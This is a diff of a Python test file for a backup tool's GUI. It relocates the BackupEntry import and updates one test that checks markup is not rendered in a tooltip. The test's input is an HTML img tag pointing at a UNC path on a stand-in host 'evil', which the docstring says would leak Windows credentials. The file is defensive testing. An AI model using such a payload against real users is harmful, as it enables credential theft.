@@ -20,9 +20,9 @@ from core import restore_steps
 from core.cli import main
 from core.console import JsonReporter, TextReporter
 from core.events import JobState, Level, Notice, Outcome
+from core.facts import BackupEntry
 from core.settings import set_up_logging
 from core.visible import visible
-from gui.contract import BackupEntry
 from gui.flow import Goal
 from gui.job_record import JobRecord
 from gui.pages.backup_table import BackupTable
@@ -107,7 +107,7 @@ def test_markup_in_a_backup_is_no_markup_in_a_tool_tip(app: QApplication) -> Non
     """An <img src="//server/share/x"> would make Windows send the account's credentials to that server."""
     markup = '<img src="//evil/share/x.png"><b>host</b>'
     table = BackupTable(Theme(app))
-    table.show_entries([BackupEntry(PurePath(f"/b/{markup}"), markup, None, markup, "", 1, "", markup)], None)
+    table.show_entries([BackupEntry(PurePath(f"/b/{markup}"), markup, markup, host=markup, total_bytes=1)], None)
     row = table.topLevelItem(0)
     assert row is not None
     below = row.child(0)
